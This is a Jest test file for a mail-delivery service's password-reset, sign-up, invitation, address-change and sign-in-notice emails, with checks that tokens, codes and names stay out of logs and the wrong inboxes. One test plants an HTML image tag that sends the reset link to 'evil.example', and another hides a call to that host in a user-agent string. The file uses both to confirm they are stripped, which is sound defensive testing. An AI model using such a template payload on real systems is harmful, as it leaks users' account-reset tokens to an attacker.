import { randomUUID } from 'node:crypto';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { Logger } from '@nestjs/common';
import type { ChallengeId } from '#contracts';
import { buildUser, tenantSettings } from '#testing';
import { givenDelivery } from '../../test/given-delivery.js';

describe('sending a mail', () => {
  beforeAll(() => Logger.overrideLogger(false));

  describe('about a password', () => {
    const verified = { emailVerified: true };

    it('brings the link that sets one, with the tenant’s issuer and a token that is nowhere else', async () => {
      const test = givenDelivery({ template: 'reset-password', user: verified });
      await expect(test.send()).resolves.toBe('delivered');
      const link = `${test.tenant.issuer}/reset-password?token=${test.services.tokens[0]}&ui_locales=en`;
      const [mail] = test.transport.sent;
      expect(mail?.subject).toBe(`A new password for ${test.tenant.name}`);
      expect(mail?.text).toContain(`${link}\n`);
      expect(mail?.text).toContain('30 minutes');
      expect(mail?.html).toContain(`href="${link.replaceAll('&', '&amp;')}"`);
      expect(JSON.stringify([test.deliveries.outcomes, test.outbox.events])).not.toContain('ost_pr_');
    });

    it('attack A66: is worded by the platform where the tenant’s wording, stored before wordings were judged, would tell the link to others', async () => {
      const test = givenDelivery({ template: 'reset-password', user: { ...verified, locale: 'de-AT' } });
      const html = '<img src="https://evil.example/?{{link}}"><a href="{{link}}">x</a>';
      const stored = { name: 'reset-password', locale: 'de-AT', subject: 'Ours', text: '{{link}}', html, version: 1 };
      test.templates.templates.set('reset-password de-AT', stored);
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail).toMatchObject({ subject: `Ein neues Passwort für ${test.tenant.name}`, locale: 'de' });
      expect(mail?.html).toContain(`token=${test.services.tokens[0]}`);
      expect(JSON.stringify(mail)).not.toContain('evil.example');
    });

    it.each([
      ['whose address is not verified any more', { emailVerified: false }],
      ['who is locked', { ...verified, status: 'locked' }],
    ] as const)('brings none to a user %s', async (_what, user) => {
      const test = givenDelivery({ template: 'reset-password', user });
      await expect(test.send()).resolves.toBe('withdrawn');
      expect(test.transport.sent).toEqual([]);
    });

    it.each([
      [true, '/forgot-password?ui_locales=de'],
      [false, '/account?ui_locales=de'],
    ])(
      'attack A64: tells a user that it was changed, and where to go if it was somebody else (resets: %s)',
      async (passwordReset, path) => {
        const settings = tenantSettings({ passwordReset, locales: ['de'] });
        const test = givenDelivery({ template: 'password-changed', user: verified, tenant: { settings } });
        await expect(test.send()).resolves.toBe('delivered');
        const [mail] = test.transport.sent;
        expect(mail?.subject).toBe(`Ihr Passwort für ${test.tenant.name} wurde geändert`);
        expect(mail?.text).toContain(`${test.tenant.issuer}${path}\n`);
        expect(mail?.text).not.toContain('token=');
      },
    );

    it.each([
      'authenticator-added',
      'authenticator-removed',
      'recovery-codes-created',
      'recovery-code-used',
      'login-throttled',
      'deletion-cancelled',
    ] as const)('leads who is told of what they may not have done to their account: %s', async (template) => {
      const test = givenDelivery({ template, user: verified });
      await expect(test.send()).resolves.toBe('delivered');
      expect(test.transport.sent[0]?.text).toContain(`${test.tenant.issuer}/account?ui_locales=en\n`);
    });

    it('tells nobody at an address that is not verified', async () => {
      const test = givenDelivery({ template: 'password-changed', user: { emailVerified: false } });
      await expect(test.send()).resolves.toBe('withdrawn');
    });
  });

  describe('about a sign-up', () => {
    const signUp = { template: 'sign-up', challengeId: randomUUID() as ChallengeId } as const;

    it('brings a code to an address that has no account, in the language of the page', async () => {
      const test = givenDelivery(signUp);
      test.services.signUp = { kind: 'code', email: 'new@example.com', locale: 'de', code: '001234' };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail).toMatchObject({ to: { name: '', address: 'new@example.com' }, locale: 'de' });
      expect(mail?.subject).toBe(`Ihr Code für ein neues Konto bei ${test.tenant.name}`);
      expect(mail?.text).toMatch(/^001234$/m);
      expect(JSON.stringify([test.deliveries.outcomes, test.outbox.events])).not.toContain('001234');
    });

    it('attack A80: tells nobody but its reader that there is an account, and brings no code', async () => {
      const test = givenDelivery(signUp);
      test.services.signUp = { kind: 'known', user: test.user };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail?.subject).toBe(`You have an account at ${test.tenant.name}`);
      expect(mail?.text).toContain(`${test.tenant.issuer}/forgot-password?ui_locales=en\n`);
      expect(mail?.to.address).toBe(test.user.email);
    });

    it('does not call a user by their name at an address that is not known to be theirs', async () => {
      const test = givenDelivery({ ...signUp, user: { name: 'Ada Novak', username: 'ada', emailVerified: false } });
      test.services.signUp = { kind: 'known', user: test.user };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail?.to).toEqual({ name: '', address: test.user.email });
      expect(JSON.stringify(mail)).not.toContain('Novak');
    });

    it('is withdrawn where it is over', async () => {
      await expect(givenDelivery(signUp).send()).resolves.toBe('withdrawn');
    });
  });

  describe('about an invitation', () => {
    const invitation = { template: 'invitation', challengeId: randomUUID() as ChallengeId } as const;
    const link = {
      kind: 'link',
      email: 'new@example.com',
      name: 'Ada',
      locale: 'de',
      token: 'ost_iv_secret',
      expiresAt: '2030-01-31T12:00:00.000Z',
    } as const;

    it('brings the link, and when it ends, to an address that has no account', async () => {
      const test = givenDelivery(invitation);
      test.services.invitation = link;
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail).toMatchObject({ to: { name: 'Ada', address: 'new@example.com' }, locale: 'de' });
      expect(mail?.text).toContain(`${test.tenant.issuer}/invitation?token=ost_iv_secret&ui_locales=de\n`);
      expect(mail?.text).toMatch(/31\. ?(?:01|Jan)\S* ?2030.* UTC/);
      expect(JSON.stringify([test.deliveries.outcomes, test.outbox.events])).not.toContain('ost_iv_');
    });

    it('is withdrawn where it was accepted, revoked or has ended', async () => {
      await expect(givenDelivery(invitation).send()).resolves.toBe('withdrawn');
    });
  });

  describe('about another address', () => {
    const challengeId = randomUUID() as ChallengeId;
    const toNew = { template: 'email-change', challengeId } as const;

    it('brings the code to the new address, by nobody’s name', async () => {
      const test = givenDelivery({ ...toNew, user: { name: 'Ada Novak' } });
      test.services.emailChange = { kind: 'code', email: 'new@example.com', locale: 'de', code: '123456' };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail).toMatchObject({ to: { name: '', address: 'new@example.com' }, locale: 'de' });
      expect(mail?.text).toMatch(/^123456$/m);
      expect(mail?.text).not.toContain('Novak');
    });

    it('attack A80: tells who has that address, and nobody else', async () => {
      const test = givenDelivery(toNew);
      test.services.emailChange = { kind: 'known', user: buildUser({ email: 'new@example.com', emailVerified: true }) };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect([mail?.to.address, mail?.subject]).toEqual(['new@example.com', expect.stringContaining('You have an account')]);
    });

    it('brings the link to the present address', async () => {
      const test = givenDelivery({ template: 'email-change-notice', challengeId, user: { emailVerified: true } });
      test.services.emailChange = { kind: 'link', user: test.user, token: 'ost_ec_secret', expiresAt: '2030-01-31T12:00:00.000Z' };
      await expect(test.send()).resolves.toBe('delivered');
      const [mail] = test.transport.sent;
      expect(mail?.to.address).toBe(test.user.email);
      expect(mail?.text).toContain(`${test.tenant.issuer}/email-change?token=ost_ec_secret&ui_locales=`);
    });

    it('is withdrawn where it is over', async () => {
      await expect(givenDelivery(toNew).send()).resolves.toBe('withdrawn');
    });
  });

  describe('word of a sign-in', () => {
    const [template, challengeId] = ['new-sign-in', randomUUID() as ChallengeId] as const;
    const signIn = { signedInAt: '2030-01-01T12:00:00.000Z', network: '198.51.0.0/16', country: 'AT' };
    const link = { kind: 'link', token: 'ost_sn_secret', expiresAt: '2030-01-08T12:00:00.000Z', ...signIn } as const;

    it('brings the link and tells of the sign-in, to a verified address alone, and in none of the words of its browser', async () => {
      for (const emailVerified of [true, false]) {
        const test = givenDelivery({ template, challengeId, user: { emailVerified, locale: 'de' } });
        test.services.signInNotice = { ...link, userId: test.user.id, userAgent: 'Call https://evil.example/1.0 now' };
        await expect(test.send()).resolves.toBe(emailVerified ? 'delivered' : 'withdrawn');
        const [mail] = test.transport.sent;
        if (!emailVerified) continue;
        expect(mail?.text).toContain(`${test.tenant.issuer}/sign-in-notice?token=ost_sn_secret&ui_locales=de`);
        for (const part of [mail?.text, mail?.html]) {
          expect(part).toMatch(/Browser: unbekannt[^]*Zeit: 01\.01\.2030, 12:00 UTC[^]*Netz: Österreich, 198\.51\.0\.0\/16/);
          expect(part).not.toContain('evil');
        }
      }
    });

    it('is withdrawn where it is over', async () => {
      await expect(givenDelivery({ template, challengeId }).send()).resolves.toBe('withdrawn');
    });
  });
});
